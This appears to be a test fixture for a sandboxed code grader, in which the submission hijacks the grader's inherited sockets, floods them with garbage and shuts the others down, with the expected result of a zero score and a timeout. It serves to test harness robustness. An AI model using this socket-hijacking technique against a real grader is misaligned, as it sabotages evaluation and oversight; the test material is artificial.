"""The sockets on which the grader is served are taken over by a program that sends rubbish."""

# ---
# threat: the answering program replaced
# sandbox: true
# scores: {twice: 0}
# causes: {twice: timeout}
# limits: {cell_seconds: 3, call_seconds: 2}
# ---

# %% twice
import os
import socket
import stat
import threading


def rubbish(one):
    while True:
        try:
            peer, _ = one.accept()
            peer.sendall(b"\xff" + b"\0" * 8 + b"\x7f\x03" + b"NULL" + os.urandom(100_000))
        except OSError:
            return


for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                threading.Thread(target=rubbish, args=(one,), daemon=True).start()
            else:
                one.shutdown(socket.SHUT_RDWR)
    except OSError:
        continue


def twice(function, value):
    return function(function(value))
